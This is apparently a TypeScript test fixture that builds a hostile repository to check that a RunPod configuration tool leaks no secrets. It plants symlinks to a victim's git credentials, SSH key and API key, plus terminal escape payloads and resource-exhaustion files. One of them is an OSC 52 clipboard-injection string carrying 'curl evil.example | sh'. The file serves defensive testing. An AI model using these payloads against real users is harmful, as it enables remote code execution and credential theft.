/**
 * The hostile repository, built at test time in a temporary folder: what an attacker can put in a
 * repository (symbolic links out of it to the victim's credentials, a linked folder, a link loop, a
 * FIFO, a link to a device, escape sequences in names, keys and values, credentials on lines
 * without `=`, NUL bytes, a 5 MB single line, a 50 MB file, JSON and TOML nested 100,000 deep) and
 * what an unlucky user has next to it (a credentials file, an SSH key, the API key file). Every
 * secret is freshly random and listed in `planted`, so a test can look for it in any output.
 */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';

const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/** `prefix` + `length` random letters and digits: token-shaped and unlike any other output. */
function token(prefix: string, length = 36): string {
  const bytes = randomBytes(length);
  let out = prefix;
  for (const b of bytes) out += BASE62[b % 62];
  return out;
}

/**
 * Lines of a private key body: random base64, each with a `/` or `+` in it as nearly all real ones
 * have. (A line shaped exactly `NAME=` or `NAME==` reads as a variable named NAME; by the rule
 * that a valid key is a key, the outline and a duplicate-key message may show it. See the report
 * of issue 10.)
 */
function keyBodyLines(count: number): string[] {
  const lines: string[] = [];
  for (let i = 0; i < count; i++) {
    let line = randomBytes(52).toString('base64');
    if (!/[+/]/.test(line)) line = `${line.slice(0, 5)}/${line.slice(6)}`;
    lines.push(line);
  }
  return lines;
}

export const ESC_CLEAR_LINE = '\u001b[2K';
export const OSC52_CLIPBOARD = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
export const C1_CSI = '\u009b31m';
export const BIDI_OVERRIDE = '\u202e';
/** A glob a backtracking matcher fails in hours against the fixture's 200-letter name (globCost.ts). */
export const STARRY_GLOB = `**/${'*a'.repeat(12)}*b`;

/** A document as an editor would open it: the name it has in the repository and the text it shows. */
export interface OpenedDocument {
  name: string;
  languageId: string;
  text: string;
}

export interface HostileRepository {
  /** The repository: `check` runs here. */
  root: string;
  /** Next to it: the victim's files the links point at. */
  outside: string;
  /** The API key the fake accepts; also planted in a file. */
  apiKey: string;
  /** Every secret value placed anywhere; none may appear in any output. */
  planted: string[];
  /** What an editor shows when the repository's files are opened (links followed, as editors do). */
  documents: OpenedDocument[];
  /** A file of 17 MiB, over RunPod's value limit, and a value typed where a path belongs. */
  hugeValueFile: string;
  valueTypedAsPath: string;
  remove(): void;
}

const DEPTH = 100_000;

export function buildHostileRepository(): HostileRepository {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'runpod-hostile-'));
  const root = path.join(base, 'repo');
  const outside = path.join(base, 'home');
  fs.mkdirSync(root);
  fs.mkdirSync(path.join(outside, 'project'), { recursive: true });
  const write = (dir: string, name: string, text: string | Buffer): void => {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), text);
  };
  const link = (target: string, name: string): void => fs.symlinkSync(target, path.join(root, name));

  const s = {
    github: token('ghp_'),
    gitlab: token('glpat-', 20),
    apiKey: token('rp_hostile_', 32),
    dbPassword: token('pw9', 16),
    urlPassword: token('Xk7', 14),
    loose: token('sk-live-', 40),
    hfValue: token('hf_', 34),
    afterEscape: token('esc_', 30),
    afterNul: token('nul_', 30),
    bigLine: token('big_', 30),
    json: token('js_', 30),
    toml: token('tm_', 30),
    tomlBare: token('tb_', 30),
    hub: token('hb_', 30),
    launch: token('ln_', 30),
    secretsFile: token('sf_', 30),
    valueTyped: token('vt_', 24),
  };
  const keyLines = keyBodyLines(8);

  // The victim's files, outside the repository.
  write(outside, '.git-credentials', `https://alice:${s.github}@github.com\nhttps://oauth2:${s.gitlab}@gitlab.com\n`);
  write(outside, '.ssh/id_ed25519', `-----BEGIN OPENSSH PRIVATE KEY-----\n${keyLines.join('\n')}\n-----END OPENSSH PRIVATE KEY-----\n`);
  write(outside, '.runpod/api-key', `${s.apiKey}\n`);
  write(outside, 'project/app.runpod.env', `DB_PASSWORD=${s.dbPassword}\n${s.loose}\n`);

  // The repository.
  link(path.join(outside, '.git-credentials'), 'runpod.env');
  fs.mkdirSync(path.join(root, '.runpod'));
  link(path.join(outside, '.ssh/id_ed25519'), '.runpod/deploy.env');
  link(path.join(outside, '.runpod/api-key'), 'key.runpod.env');
  link(path.join(outside, 'project'), 'linked');
  link('loop.runpod.env', 'loop.runpod.env');
  link('/dev/zero', 'zero.runpod.env');
  execFileSync('mkfifo', [path.join(root, 'fifo.runpod.env')]);
  // A long name of one letter: failing it against a glob with many stars in a segment
  // (`*a*a*a*a*b`) takes a backtracking matcher minutes to hours.
  write(root, 'a'.repeat(200), 'A=1\n');
  // 50 MB on paper (sparse): refused by its size before a byte is read.
  write(root, 'huge.runpod.env', '');
  fs.truncateSync(path.join(root, 'huge.runpod.env'), 50 * 1024 * 1024);

  const escapes =
    `K${OSC52_CLIPBOARD}EY=1\n` +
    `X=${C1_CSI}{{ RUNPOD_SECRET_a${BIDI_OVERRIDE}b }}\n` +
    `Y=shown\rFORGED=line\n` +
    `${ESC_CLEAR_LINE}${s.afterEscape}\n`;
  write(root, `esc${ESC_CLEAR_LINE}${BIDI_OVERRIDE}.runpod.env`, escapes);
  const url = `postgres://app:${s.urlPassword}@db.internal:5432/prod?sslmode=require`;
  const creds = `${s.loose}\n${url}\n${url}\nHF_TOKEN=${s.hfValue}\nmy url:${s.urlPassword}=${s.hfValue}\n`;
  write(root, 'creds.runpod.env', creds);
  const nul = `A=1\n\u0000\u0000${s.afterNul}\u0000\nB=\u0000${s.afterNul}\n`;
  write(root, 'nul.runpod.env', nul);
  const half = 2.5 * 1024 * 1024;
  const bigLine = `${'x'.repeat(half)}${s.bigLine}${'y'.repeat(half)}\n`;
  write(root, 'bigline.runpod.env', bigLine);
  const deepJson = `{"env": {"A": "${s.json}", "B": "{{ RUNPOD_SECRET_nope }}", "C": ${'['.repeat(DEPTH)}`;
  write(root, 'deep.runpod.json', deepJson);
  const toml = `[project.env_vars]\nA = "${s.toml}"\nC = ${s.tomlBare}\nB = ${'{a='.repeat(DEPTH / 2)}1${'}'.repeat(DEPTH / 2)}\n`;
  write(root, 'runpod.toml', toml);
  const hub = JSON.stringify({ config: { env: [{ key: `postgres://u:${s.urlPassword}@h`, value: s.hub }, { key: 'T', value: s.hub }] } });
  write(root, '.runpod/hub.json', hub);
  write(root, 'broken.runpod.json', `{"name": "p", "image": "i", "env": {"TOKEN": ${s.launch}}}\n`);
  write(root, 'names.txt', `hf-token\nHF_TOKEN=${s.secretsFile}\n${s.secretsFile}x!\n`);

  const hugeValueFile = path.join(outside, 'huge-value.bin');
  fs.writeFileSync(hugeValueFile, '');
  fs.truncateSync(hugeValueFile, 17 * 1024 * 1024);

  const read = (p: string): string => fs.readFileSync(p, 'utf8');
  const documents: OpenedDocument[] = [
    { name: 'runpod.env', languageId: 'runpod-env', text: read(path.join(outside, '.git-credentials')) },
    { name: '.runpod/deploy.env', languageId: 'runpod-env', text: read(path.join(outside, '.ssh/id_ed25519')) },
    { name: 'key.runpod.env', languageId: 'runpod-env', text: read(path.join(outside, '.runpod/api-key')) },
    { name: 'linked/app.runpod.env', languageId: 'runpod-env', text: read(path.join(outside, 'project/app.runpod.env')) },
    { name: `esc${ESC_CLEAR_LINE}${BIDI_OVERRIDE}.runpod.env`, languageId: 'runpod-env', text: escapes },
    { name: 'creds.runpod.env', languageId: 'runpod-env', text: creds },
    { name: '.env', languageId: 'dotenv', text: creds },
    { name: 'nul.runpod.env', languageId: 'runpod-env', text: nul },
    { name: 'bigline.runpod.env', languageId: 'runpod-env', text: bigLine },
    { name: 'deep.runpod.json', languageId: 'json', text: deepJson },
    { name: 'runpod.toml', languageId: 'plaintext', text: toml },
    { name: '.runpod/hub.json', languageId: 'json', text: hub },
  ];

  return {
    root,
    outside,
    apiKey: s.apiKey,
    planted: [...Object.values(s), ...keyLines],
    documents,
    hugeValueFile,
    valueTypedAsPath: s.valueTyped,
    remove: () => fs.rmSync(base, { recursive: true, force: true }),
  };
}
